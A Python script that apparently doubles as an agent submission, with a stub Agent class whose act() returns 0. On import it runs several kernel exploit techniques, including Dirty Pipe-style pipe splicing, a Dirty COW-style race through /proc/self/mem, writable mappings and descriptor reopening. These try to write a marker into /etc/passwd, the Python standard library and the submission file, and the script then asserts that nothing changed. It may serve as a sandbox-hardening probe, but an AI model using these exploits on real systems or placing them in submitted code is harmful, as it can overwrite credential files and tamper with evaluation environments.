"""Writes into files that it may only read by the kernel's copies of them: spliced pipes, races of private pages, /proc/self/mem."""

import ctypes
import hashlib
import mmap
import os
import sysconfig
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
FILES = [sysconfig.get_path("stdlib") + "/json/decoder.py", "/submission/agent.py", "/etc/passwd"]
MARK = b"# pullrank-owned\n"


def read(path):
    with open(path, "rb") as file:
        return file.read()


def by_pipes(path):
    """The bytes of a file lie in a pipe as its own pages, and the next write may be merged into the last of them."""
    reader, writer = os.pipe()
    os.write(writer, b"x" * 65536)
    os.read(reader, 65536)
    file = os.open(path, os.O_RDONLY)
    os.splice(file, writer, 1, offset_src=0) if hasattr(os, "splice") else libc.splice(file, None, writer, None, 1, 0)
    os.write(writer, MARK)
    os.close(file)


def by_races(path, seconds):
    """A thread drops the private page while another one writes it by the process's memory."""
    file = os.open(path, os.O_RDONLY)
    length = max(mmap.PAGESIZE, os.fstat(file).st_size)
    libc.mmap.restype = ctypes.c_void_p
    page = libc.mmap(None, ctypes.c_size_t(length), mmap.PROT_READ, mmap.MAP_PRIVATE, file, ctypes.c_long(0))
    until = time.monotonic() + seconds

    def drop():
        while time.monotonic() < until:
            libc.madvise(ctypes.c_void_p(page), ctypes.c_size_t(length), 4)  # MADV_DONTNEED

    thread = threading.Thread(target=drop)
    thread.start()
    memory = os.open("/proc/self/mem", os.O_RDWR)
    while time.monotonic() < until:
        try:
            os.pwrite(memory, MARK, page)
        except OSError:
            pass
    thread.join()
    os.close(memory)
    os.close(file)


def by_mappings(path):
    """A shared page that may be written."""
    file = os.open(path, os.O_RDONLY)
    for how in (mmap.ACCESS_WRITE, mmap.ACCESS_COPY):
        try:
            with mmap.mmap(file, 0, access=how) as page:
                page[: len(MARK)] = MARK
                page.flush()
        except (OSError, ValueError):
            pass
    os.close(file)


def by_reopening(path):
    """The descriptor of a file that is open for reading is opened again for writing, or copied into."""
    file = os.open(path, os.O_RDONLY)
    for attempt in (
        lambda: os.write(os.open(f"/proc/self/fd/{file}", os.O_WRONLY), MARK),
        lambda: os.copy_file_range(file, file, 8, 8, 0),
        lambda: os.ftruncate(file, 0),
        lambda: os.posix_fallocate(file, 0, 10),
        lambda: os.write(os.open(path, os.O_RDONLY | 0o20000000 | os.O_TRUNC), MARK),
    ):
        try:
            attempt()
        except OSError:
            pass
    os.close(file)


before = {path: hashlib.sha256(read(path)).hexdigest() for path in FILES}
for path in FILES:
    for way in (by_pipes, by_mappings, by_reopening, lambda path: by_races(path, 0.5)):
        try:
            way(path)
        except OSError:
            pass
changed = [path for path in FILES if hashlib.sha256(read(path)).hexdigest() != before[path]]
assert not changed, changed
print("no byte of the image changed", flush=True)


class Agent:
    def act(self, observation):
        return 0
